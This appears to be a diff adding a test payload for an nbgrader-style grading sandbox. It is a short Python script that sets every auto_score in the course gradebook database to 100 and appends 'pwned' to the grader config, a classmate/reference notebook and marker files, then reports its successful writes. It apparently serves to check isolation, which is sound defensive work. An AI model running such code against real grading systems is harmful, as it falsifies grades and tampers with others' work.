@@ -1,0 +1,22 @@
+"""Tries to raise its grade in the gradebook and to overwrite course and classmates' files."""
+import os
+import sqlite3
+
+written = []
+try:
+    connection = sqlite3.connect(f"file:{COURSE}/gradebook.db?mode=rw", uri=True)  # noqa: F821
+    connection.execute("UPDATE grade SET auto_score = 100")
+    connection.commit()
+    written.append("gradebook")
+except Exception:
+    pass
+for path in (f"{COURSE}/nbgrader_config.py", f"{COURSE}/PWNED",  # noqa: F821
+             f"{COURSE}/submitted/zz_reference/parameter_counting/parameter_counting.ipynb",  # noqa: F821
+             os.path.join(os.getcwd(), "PWNED")):
+    try:
+        with open(path, "a") as handle:
+            handle.write("pwned")
+        written.append(path)
+    except OSError:
+        pass
+print(f"ATTACK-WROTE {len(written)}")
